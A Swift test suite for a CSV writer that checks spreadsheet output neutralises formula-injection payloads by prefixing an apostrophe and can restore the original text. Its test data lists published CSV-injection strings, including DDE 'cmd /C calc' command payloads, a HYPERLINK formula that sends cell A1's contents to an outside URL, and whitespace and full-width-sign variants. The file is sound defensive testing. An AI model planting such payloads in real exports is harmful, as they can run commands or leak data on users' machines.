import CSVText
import Testing

/// What a spreadsheet would run is written so that it does not, and comes back as it was.
@Suite struct FormulaTests {
    /// Attacks, most of them published ones: OWASP's CSV Injection page and the variants around it.
    static let attacks = [
        "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.com?\"&A1,\"札幌市\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u{3000}=1+1", "\u{FEFF}=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
        "\tabc", "'=1+1", "''@x", "=\"011002\"", "=\u{301}1", "-",
    ]

    @Test(arguments: attacks)
    func anAttackGetsAnApostrophe(_ text: String) throws {
        var writer = CSVWriter(dialect: .spreadsheet)
        writer.append([CSVCell.text(text), .number(text)])
        let record = try #require(try allRecords(writer.bytes).first)
        #expect(record == [CSVField("'" + text), CSVField("'" + text)])
        #expect(Array(CSVWriter.restored(record[0].text).utf8) == Array(text.utf8))
    }

    @Test(arguments: [
        "", "札幌市", "011002", "1-1", "a=b", "'", "''", "'quoted'", "’=1", "1", " a", "ー", "・", "− 1", "100%", "#NAME",
    ])
    func anOrdinaryTextIsLeftAlone(_ text: String) {
        #expect(CSVWriter.neutralised(text) == text)
        #expect(CSVWriter.restored(text) == text)
    }

    /// White space is what the standard calls so, over every scalar; two more are not seen either.
    @Test func anyWhiteSpaceBeforeASignIsLookedThrough() {
        let blank = (UInt32(0)...0x10FFFF).compactMap(Unicode.Scalar.init).filter { scalar in
            CSVWriter.neutralised("\(scalar)=1") != "\(scalar)=1" && !"'=+-@＝＋－＠".unicodeScalars.contains(scalar)
        }
        let white = (UInt32(0)...0x10FFFF).compactMap(Unicode.Scalar.init).filter(\.properties.isWhitespace)
        #expect(blank == (white + ["\u{200B}", "\u{FEFF}"]).sorted())
    }

    @Test(arguments: attacks)
    func thePlainDialectChangesNothing(_ text: String) throws {
        var writer = CSVWriter()
        writer.append([text])
        #expect(try allRecords(writer.bytes) == [[CSVField(text)]])
    }

    @Test(arguments: ["-1", "+1", "-0.5", "-1e-9", "+2E+3", "12"])
    func aNumberIsLeftAloneWhereItIsDeclared(_ number: String) {
        var writer = CSVWriter(dialect: .spreadsheet)
        writer.append([CSVCell.number(number)])
        #expect(writer.bytes == Array("\u{FEFF}\(number)\r\n".utf8))
    }

    @Test(arguments: [
        "-", "+", "-1+1", "-1 ", "--1", "-.5", "-1.", "-1e", "-１", "-1,000", "-0x10", "-1\n", "+1\u{301}",
    ])
    func whatIsNoNumberIsATextAllTheSame(_ text: String) throws {
        var writer = CSVWriter(dialect: .spreadsheet)
        writer.append([CSVCell.number(text)])
        #expect(try allRecords(writer.bytes) == [[CSVField("'" + text)]])
    }

    /// Two texts never become the same one: all texts of up to four of these characters.
    @Test func restoringIsTheInverse() {
        var texts = [""]
        var longest = [""]
        for _ in 1...4 {
            longest = longest.flatMap { text in ["'", "=", " ", "\t", "a", "＝"].map { text + $0 } }
            texts += longest
        }
        let written = texts.map(CSVWriter.neutralised)
        #expect(written.map(CSVWriter.restored) == texts)
        #expect(Set(written).count == texts.count)
    }
}
